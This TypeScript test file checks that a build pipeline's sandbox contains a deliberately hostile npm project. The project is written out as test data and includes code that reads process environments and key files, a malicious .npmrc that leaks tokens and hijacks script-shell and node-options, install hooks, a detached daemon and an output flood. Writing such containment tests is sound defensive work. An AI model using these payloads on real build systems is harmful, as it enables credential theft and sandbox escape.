import { mkdirSync, mkdtempSync, readFileSync, readdirSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { runPipeline } from './run-pipeline.ts';
import { lockOf, prepareRun, sampleFiles, workingSandboxes } from './sample-app.ts';

const kinds = await workingSandboxes();
const canary = ['canary', 'of', 'the', 'build', 'worker'].join('-');

/** What the project's code tries wherever it runs; each success would print `GOT`. */
function attack(where: string, keyFile: string, workspaces: string, port: number): string {
  return `
  const { readFileSync, readdirSync, writeFileSync, existsSync } = require('node:fs');
  const { spawn } = require('node:child_process');
  const attempt = (name, act) => { try { const got = act(); if (got) console.log('GOT', name, String(got).slice(0, 200)); } catch {} };
  console.log('attacking from ${where}');
  spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)', 'graft-hostile-daemon'], { detached: true, stdio: 'ignore' }).unref();
  attempt('environment', () => JSON.stringify(process.env).includes(${JSON.stringify(canary)}));
  for (const pid of readdirSync('/proc').filter((name) => /^\\d+$/.test(name)))
    attempt('environment of ' + pid, () => readFileSync('/proc/' + pid + '/environ', 'utf8').match(/canary[\\w-]*/)?.[0]);
  attempt('key file', () => readFileSync(${JSON.stringify(keyFile)}, 'utf8'));
  attempt('key file of a parent', () => readFileSync('/proc/1/root' + ${JSON.stringify(keyFile)}, 'utf8'));
  attempt('other workspace', () => readFileSync(${JSON.stringify(workspaces)} + '/runs/ins_other-1/secret', 'utf8'));
  attempt('other cache', () => readdirSync(${JSON.stringify(workspaces)} + '/caches/prj_other').join());
  attempt('kept modules', () => { for (const name of ['npm', 'modules']) if (existsSync(${JSON.stringify(workspaces)} + '/caches/prj_sample/' + name)) return name; });
  attempt('node_modules', () => { writeFileSync('node_modules/.planted', 'x'); return 'wrote'; });
  require('node:net').connect(${port}, '127.0.0.1').on('connect', () => console.log('GOT port')).on('error', () => {});
  `;
}

const flood = `setInterval(() => process.stdout.write('z'.repeat(1_000_000)), 1);`;

const folders: string[] = [];
afterEach(() => {
  delete process.env['GRAFT_TEST_CANARY'];
  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true });
});

describe.each(kinds)('a hostile project in %s', (kind) => {
  it('gets nowhere and gets a verdict', async () => {
    const outside = realpathSync(mkdtempSync(join(tmpdir(), 'graft-outside-')));
    folders.push(outside);
    const keyFile = join(outside, 'sealing.private');
    writeFileSync(keyFile, canary);
    process.env['GRAFT_TEST_CANARY'] = canary;
    let connections = 0;
    const service = createServer((socket) => {
      connections += 1;
      socket.destroy();
    });
    await new Promise<void>((resolve) => service.listen(0, '127.0.0.1', resolve));
    const address = service.address();
    const port = typeof address === 'object' && address !== null ? address.port : 0;

    // The attack needs paths of a run that exists only afterwards, so a first run makes them.
    const { workspaces } = await prepareRun({ files: {}, plan: {} }, kind);
    folders.push(workspaces);
    mkdirSync(join(workspaces, 'runs', 'ins_other-1'), { recursive: true });
    writeFileSync(join(workspaces, 'runs', 'ins_other-1', 'secret'), canary);
    mkdirSync(join(workspaces, 'caches', 'prj_other', 'npm'), { recursive: true });
    const at = (where: string, then: string) => attack(where, keyFile, workspaces, port) + then;
    const script = `node -e "require('node:fs').writeFileSync('${outside}/script-ran', 'x'); console.log('GOT script')"`;
    const scripts = { preinstall: script, install: script, postinstall: script, prepare: script };
    const files = sampleFiles({
      'package.json': JSON.stringify({
        name: 'hostile',
        version: '1.0.0',
        scripts,
        dependencies: { expo: 'file:packages/expo', typescript: 'file:packages/typescript' },
      }),
      '.npmrc': [
        `registry=http://127.0.0.1:${port}/`,
        `@evil:registry=http://127.0.0.1:${port}/`,
        `//127.0.0.1:${port}/:_authToken=\${GRAFT_TEST_CANARY}`,
        'ignore-scripts=false',
        `cafile=${keyFile}`,
        'script-shell=./evil.sh',
        'node-options=--require ./evil.js',
        `globalconfig=${keyFile}`,
      ].join('\n'),
      'evil.js': "console.log('GOT node-options');",
      'packages/expo/package.json': JSON.stringify({ name: 'expo', version: '57.0.0', scripts }),
      // The command line loads the project's configuration, its plugins and metro.config.js as expo does.
      'packages/expo/bin/cli': `const path = require('node:path'); require(path.resolve('app.config.js'));
        if (process.argv[2] === 'export') require(path.resolve('metro.config.js'));`,
      'app.config.js': "require('./plugins/plugin.js');",
      'plugins/plugin.js': at(
        'the config plugin',
        "if (process.argv[2] === 'config') setTimeout(() => process.exit(0), 300);",
      ),
      'metro.config.js': at('metro.config.js', flood),
      'packages/typescript/bin/tsc': at('tsc', 'setTimeout(() => process.exit(1), 300);'),
      'server/pay.ts': 'export async function pay(): Promise<Response> { return new Promise(() => {}); }',
    });
    const app = { files: { ...files, 'package-lock.json': lockOf(files) }, plan: {} };
    const prepared = await prepareRun(app, kind);
    folders.push(prepared.workspaces);
    const input = {
      ...prepared.input,
      serverChecks: [
        {
          name: 'pay',
          module: 'attack.ts',
          export: 'pay',
          environment: {},
          request: { method: 'POST', url: 'https://app.example/' },
          expect: { status: 200, body: {} },
        },
      ],
    };
    const report = await runPipeline(input, { ...prepared.context, workspaces });

    expect(report.steps.map(({ step, verdict }) => [step, verdict])).toEqual([
      ['dependencies', 'passed'],
      ['types', 'inconclusive'],
      ['lint', 'skipped'],
      ['build', 'inconclusive'],
      ['versions', 'passed'],
      ['server', 'failed'],
    ]);
    const everything = prepared.artifacts.all().filter((text) => !text.includes('ustar'));
    for (const where of ['tsc', 'the config plugin', 'metro.config.js'])
      expect(everything.some((text) => text.includes(`attacking from ${where}`))).toBe(true);
    const logs = everything.join('\n');
    expect(logs.match(/GOT .*/g) ?? []).toEqual([]);
    expect(logs).not.toContain(canary);
    expect(logs).toContain('stopped by the limit of output');
    expect(connections).toBe(0);
    expect(readdirSync(outside)).toEqual(['sealing.private']);
    expect(readdirSync(join(workspaces, 'runs'))).toEqual(['ins_other-1']);
    expect(daemons()).toEqual([]);

    service.close();
  });
});

function daemons(): string[] {
  return readdirSync('/proc').filter((name) => {
    try {
      return /^\d+$/.test(name) && readFileSync(`/proc/${name}/cmdline`, 'utf8').includes('graft-hostile-daemon');
    } catch {
      return false;
    }
  });
}
